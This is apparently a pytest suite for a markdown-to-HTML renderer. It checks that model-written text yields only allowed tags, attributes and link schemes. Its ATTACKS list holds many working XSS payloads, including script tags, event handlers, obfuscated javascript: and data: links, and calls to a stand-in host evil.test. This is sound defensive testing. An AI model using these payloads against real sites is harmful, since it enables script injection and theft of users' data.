"""markdown: what models write becomes HTML of listed tags, attributes and schemes, and no other."""

from __future__ import annotations

import random
import time
from html.parser import HTMLParser

import pytest

from mlxlite import markdown
from mlxlite.colours import PALETTE
from mlxlite.markdown import TAGS, plain, render

pytestmark = pytest.mark.skipif(not markdown.is_installed, reason="needs the extra web")
CLASSES = {"hl", "align-left", "align-right", "align-center"}
CLASSES |= {f"hl-{kind}" for kind in PALETTE if kind}
VOID = {"br", "hr"}


class Judge(HTMLParser):
    """Reads HTML as a browser would; fails at whatever is not allowed, or not closed."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.links: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        names = [name for name, _ in attrs]
        assert set(names) <= TAGS[tag] and len(set(names)) == len(names), (tag, attrs)
        values = {name: value or "" for name, value in attrs}
        for name in values.get("class", "").split():
            assert name in CLASSES or (tag == "code" and name.startswith("language-")), name
        if tag == "a":
            assert "a" not in self.open
            assert values["rel"] == "noopener noreferrer" and values["target"] == "_blank"
            scheme = values["href"].partition(":")[0]
            assert scheme.lower() in ("http", "https", "mailto"), values["href"]
            assert not any(char.isspace() or char < " " for char in values["href"])
            self.links.append(values["href"])
        assert values.get("start", "0").isdigit()
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a section: {data}")


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=//evil.test>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>*{background:url(//evil.test)}</style>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><input name=password><button>Go</button></form>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://a.test' onclick=alert(1)>x</a>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<p id=chat name=chat>clobber</p>",
    "<!-- --><script>alert(1)</script>",
    "<!-- comment -->",
    "<!DOCTYPE html><html>",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</p></div></body><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript&colon;alert&lpar;1&rpar;)",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](java%73cript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](blob:https://a.test/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test)",
    "[x](/api/gc/execute)",
    "[x](#/sessions)",
    "[x](?q=1)",
    "[x](http:evil.test)",
    "[x](https:///evil.test)",
    "[x](feed:javascript:alert(1))",
    "[x](view-source:https://a.test)",
    '[x](https://a.test "onmouseover=alert(1)")',
    '[x](https://a.test "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://a.test' '\"onmouseover=alert(1))",
    '[x](https://a.test/"onmouseover="alert(1))',
    "[x](https://a.test/<script>)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: data:text/html,x 'title'",
    '[r]\n\n[r]: <javascript:alert(1)> "\'"',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<x:y>",
    '<https://a.test/"onclick=alert(1)>',
    "![x](javascript:alert(1))",
    "![x](https://evil.test/track.png?leak)",
    "![x](data:image/png;base64,AAAA)",
    "![x](//evil.test/x.png)",
    '![x" onerror="alert(1)](https://a.test/x.png)',
    "[![x](https://a.test/1.png)](javascript:alert(1))",
    "[![x](javascript:alert(1))](https://a.test)",
    "[a [b](https://b.test) c](https://c.test)",
    "[https://a.test](https://b.test)",
    "https://a.test/<script>alert(1)</script>",
    'https://a.test/"onmouseover=alert(1)',
    "https://a.test/'><img src=x>",
    "javascript:alert(1) www.a.test ftp://a.test",
    "https://a.test/&#1;&#27;x",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```"onload=alert(1)\nx\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<img src=x onerror='alert(1)'>\n```",
    "~~~js\n'</span><script>alert(1)</script>'\n~~~",
    "    <script>alert(1)</script>\n",
    "`<script>alert(1)</script>`",
    "``a`\"'<b>`` **<b>** *<i>* ~~<u>~~",
    "# <script>alert(1)</script>\n\n<h1 onclick=x>",
    "| <script>a</script> | b |\n|:-:|--:|\n| <img src=x onerror=a> | [x](javascript:a) |",
    "> <script>alert(1)</script>\n> - <svg onload=a>\n>   1. [x](vbscript:a)",
    "999999999. <b>x\n0. y",
    "\0<script\0>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\ufeff<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "\u202e<script>alert(1)</script>",
    "*a <b *c</b>* [x](<b>) ![<b>](<i>)",
]


FRAMES = (
    "{}",
    "a {} b",
    "> {}",
    "- {}\n- x",
    "# {}",
    "**{}**",
    "[{}](https://a.test)",
    "![{}](https://a.test)",
    "| a |\n|---|\n| {} |",
    "```\n{}\n```",
    "```{}",
    "x\n\n{}\n\ny",
    "<{}>",
)


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_attacks(attack: str) -> None:
    """Alone, and inside whatever else there is; the same without the extra."""
    assert len(ATTACKS) >= 40
    for frame in FRAMES:
        Judge(render(frame.format(attack)))
        Judge(plain(frame.format(attack)))


@pytest.mark.parametrize("seed", range(20))
def test_attacks_put_together(seed: int) -> None:
    draw = random.Random(seed)
    for _ in range(20):
        parts = [draw.choice(ATTACKS) for _ in range(4)]
        cut = [part[: draw.randint(1, len(part))] for part in parts]
        text = draw.choice(("", " ", "\n", "\n\n")).join(cut)
        Judge(render(text))
        Judge(plain(text))


def test_text_is_shown_as_it_is() -> None:
    """Nothing is taken away: what is not live is still read."""
    for text in ("<script>alert(1)</script>", "a < b && c > d", "\"'&amp", "1 \\< 2"):
        assert Judge(render(f"x {text}")).text.strip() == f"x {text.replace(chr(92), '')}"
    assert Judge(render("`&lt;` &lt; &copy;")).text.strip() == "&lt; < ©"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>\n"),
        ("a\nb", "<p>a<br>\nb</p>\n"),
        ("a\r\nb\rc", "<p>a<br>\nb<br>\nc</p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
        ("***\n", "<hr>\n"),
        ("## a", "<h2>a</h2>\n"),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"),
        ("```py\nx", '<pre class="hl"><code class="language-py">x</code></pre>\n'),
        ("```\nx\n```", '<pre class="hl"><code>x\n</code></pre>\n'),
        ("    x\n", '<pre class="hl"><code>x\n</code></pre>\n'),
    ],
)
def test_markdown(text: str, html: str) -> None:
    assert render(text) == html


def test_tables() -> None:
    html = render("| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |")
    assert '<td class="align-left">1</td>' in html and '<td class="align-right">2</td>' in html
    assert '<th class="align-center">c</th>' in html and "style" not in html


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("[a](https://a.test/b?c=d&e)", ["https://a.test/b?c=d&e"]),
        ("[a](HTTPS://a.test) [b](mailto:b@c.test)", ["HTTPS://a.test", "mailto:b@c.test"]),
        ("[a][r]\n\n[r]: https://r.test 'T'", ["https://r.test"]),
        ("<https://a.test> <b@c.test>", ["https://a.test", "mailto:b@c.test"]),
        ("see https://a.test/x_y_z, or (http://b.test/(c)).",
         ["https://a.test/x_y_z", "http://b.test/(c)"]),
        ("**https://a.test** `https://code.test`", ["https://a.test"]),
        ("[https://a.test](https://b.test)", ["https://b.test"]),
        ("![alt](https://a.test/i.png)", ["https://a.test/i.png"]),
        ("[![alt](https://a.test/i.png)](https://b.test)", ["https://b.test"]),
        ("[a](/relative) [b](ftp://c.test) [d](javascript:e)", []),
        ("https:// http://", []),
    ],
)  # fmt: skip
def test_links(text: str, links: list[str]) -> None:
    assert Judge(render(text)).links == links


def test_pictures_are_links() -> None:
    html = render("![a cat](https://a.test/cat.png 'T')")
    assert "<img" not in html and ">a cat</a>" in html
    assert Judge(render("![](https://a.test/cat.png)")).text.strip() == "https://a.test/cat.png"


def test_growing_text() -> None:
    """Each prefix of a message is asked for while it comes; the last one is the whole."""
    text = "# Hi\n\nSee **bold** and `code`:\n\n```python\ndef f():\n    return '<b>'\n```\n\n1. [a](https://a.test)\n2. b\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n"  # noqa: E501 - one string is read more easily than six
    for end in range(len(text)):
        Judge(render(text[:end]))
    whole = render(text)
    markdown._inline_alone.cache_clear()
    assert render(text) == whole


def test_a_definition_reaches_every_paragraph() -> None:
    """Although paragraphs are kept: one that has meant something else is rendered anew."""
    assert Judge(render("see [x]")).links == []
    assert Judge(render("see [x]\n\n[x]: https://a.test")).links == ["https://a.test"]
    assert Judge(render("see [x]\n\n[x]: https://b.test")).links == ["https://b.test"]
    assert Judge(render("see [x]")).links == []


# ------------------------------------------------------------------------------------- limits

HEAVY = {
    "brackets": "[" * 50_000,
    "links": "[a](" * 24_000,
    "pictures": "![" * 49_000,
    "quotes": ">" * 90_000,
    "emphasis": "*a **b " * 14_000,
    "mixed": "*a_ " * 24_000,
    "ticks": "".join("a" + "`" * n for n in range(400)),
    "tags": "<" * 99_000,
    "table": "|" * 1000 + "\n" + "|-" * 999 + "\n" + "a\n" * 30_000,
    "definitions": "".join(f"[{n}]: u\n" for n in range(9000)),
    "lists": "".join("  " * n + "* a\n" for n in range(250)),
    "entities": "&" * 99_000,
    "parentheses": "https://a.test/" + ")" * 99_000,
    "addresses": "http://a" * 12_000,
    "paragraphs": "a\n\n" * 33_000,
    "titles": '[a](b "' * 14_000,
    "code": "```python\n" + "(" * 49_000 + "\n```",
    "fences": "```\n" * 24_000,
    "long": "word " * 200_000,
}


@pytest.mark.slow
@pytest.mark.parametrize("name", HEAVY)
def test_nothing_takes_long(name: str) -> None:
    """Bounded by MOST_S for parsing, and about as much again for what it wrote."""
    began_s = time.perf_counter()
    html = render(HEAVY[name])
    taken_s = time.perf_counter() - began_s
    assert taken_s < 5 * markdown.MOST_S
    Judge(html)


def test_what_takes_too_long_is_shown_plainly(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "**a** <b>\n\n```c\nint x;\n```"
    assert "<strong>" in render(text)
    monkeypatch.setattr(markdown, "MOST_S", -1.0)
    assert render(text) == plain(text)
    assert Judge(render(text)).text == "**a** <b>\nint x;\n\n"


def test_a_very_long_text_is_shown_plainly() -> None:
    text = "**a** " * (markdown.MOST_CHARS // 6 + 1)
    assert render(text) == f"<p>{text}</p>\n"


def test_without_the_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "is_installed", False)
    html = render("a <b>\r\nc\n\n\nd\n```py\n\n<x>\n\n~~~\n```\ne\n````\n```\nopen")
    assert html.replace("\n", "|") == (
        "<p>a &lt;b&gt;<br>c</p>|<p>d</p>|"
        '<pre class="hl"><code class="language-py">|&lt;x&gt;||~~~|</code></pre>|'
        '<p>e</p>|<pre class="hl"><code>```|open|</code></pre>|'
    )
    assert render("") == ""
